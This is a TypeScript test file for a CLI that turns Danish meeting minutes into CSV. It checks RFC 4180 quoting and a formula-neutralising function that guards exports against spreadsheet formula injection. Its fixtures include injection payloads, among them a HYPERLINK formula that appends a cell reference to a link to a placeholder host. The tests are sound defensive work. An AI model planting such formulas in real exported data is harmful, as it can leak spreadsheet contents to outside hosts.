import { spawnSync } from 'node:child_process'
import { mkdtempSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { beforeAll, describe, expect, it } from 'vitest'
import { main } from '../src/cli/main.js'
import { CSV_COLUMNS, neutraliseFormula } from '../src/emit/index.js'
import { fakeIo } from './fake-io.js'
import { ROOT, seedFixtures } from './helpers.js'

async function csvOf(args: string[], cwd = ROOT): Promise<string> {
  const io = fakeIo({ cwd })
  expect(await main(['parse', ...args, '--format', 'csv'], io)).toBe(0)
  return io.out()
}

/** Counts records with Python's csv module, a strict reader, opened with or without newline=''. */
function pythonRecords(file: string, newline: boolean): { records: number; widths: number[] } {
  const open = newline ? `open(sys.argv[1], newline='', encoding='utf-8')` : `open(sys.argv[1], encoding='utf-8')`
  const script = `import csv, sys, json\nrows = list(csv.reader(${open}))\nprint(json.dumps({"records": len(rows), "widths": sorted(set(len(r) for r in rows))}))`
  const result = spawnSync('python3', ['-c', script, file], { encoding: 'utf8' })
  expect(result.stderr).toBe('')
  return JSON.parse(result.stdout) as { records: number; widths: number[] }
}

const hasPython = spawnSync('python3', ['--version']).status === 0

describe('CSV is RFC 4180', () => {
  let file: string
  let csv: string
  beforeAll(async () => {
    csv = await csvOf(seedFixtures())
    file = join(mkdtempSync(join(tmpdir(), 'referat-csv-')), 'items.csv')
    writeFileSync(file, csv)
  })

  it('every field with a quote, comma, CR or LF is quoted, and records end in CRLF', () => {
    // Outside quoted fields, no bare LF and no bare CR may remain.
    const unquoted = csv.replace(/"(?:[^"]|"")*"/g, '')
    expect(unquoted.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/)
    expect(csv.endsWith('\r\n')).toBe(true)
    // The seeds do have decisions spanning lines, so the check above is not empty.
    expect(csv).toMatch(/"[^"]*\n[^"]*"/)
  })

  it.skipIf(!hasPython).each([true, false])("Python's csv module reads 51 records + header (newline='': %s)", (newline) => {
    const { records, widths } = pythonRecords(file, newline)
    expect(records).toBe(51 + 1)
    expect(widths).toEqual([CSV_COLUMNS.length])
  })

  it('DuckDB sniffs it and reads 51 rows of every column', async () => {
    const { DuckDBInstance } = await import('@duckdb/node-api')
    const connection = await (await DuckDBInstance.create(':memory:')).connect()
    const path = file.replaceAll("'", "''")
    const rows = (await connection.runAndReadAll(`SELECT count(*)::INTEGER AS n FROM read_csv_auto('${path}')`)).getRowObjects()
    expect(rows[0]?.n).toBe(51)
    const columns = (await connection.runAndReadAll(`DESCRIBE SELECT * FROM read_csv_auto('${path}')`)).getRowObjects()
    expect(columns).toHaveLength(CSV_COLUMNS.length)
    connection.closeSync()
  })
})

describe('CSV formula injection', () => {
  it.each([
    ['=HYPERLINK("http://x")', `'=HYPERLINK("http://x")`],
    ['+45 12 34 56 78', `'+45 12 34 56 78`],
    ['-1+2', `'-1+2`],
    ['@SUM(A1)', `'@SUM(A1)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    ['Godkendt', 'Godkendt'],
    ['1 = 1', '1 = 1'],
    ['', '']
  ])('%j → %j', (cell, expected) => {
    expect(neutraliseFormula(cell)).toBe(expected)
  })

  const minutes = [
    'REFERAT', '', 'Udvalget for Teknik', 'Dato: 18. november 2024', '', 'Punkt 1: Budget', '',
    'Beslutning', '=HYPERLINK("http://example.invalid/?x="&A1;"Klik")', '', 'Punkt 2: Eventuelt', '', 'Beslutning', 'Intet.', ''
  ].join('\n')

  it('a decision that starts with = goes out with a leading \' by default, as is with --no-csv-safe', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'referat-csv-'))
    writeFileSync(join(dir, 'm.txt'), minutes)
    const safe = await csvOf(['m.txt'], dir)
    expect(safe).toContain(`"'=HYPERLINK(""http://example.invalid/?x=""&A1;""Klik"")"`)
    const raw = await csvOf(['m.txt', '--no-csv-safe'], dir)
    expect(raw).toContain(`"=HYPERLINK(""http://example.invalid/?x=""&A1;""Klik"")"`)
    expect(raw).not.toContain(`'=`)
  })
})
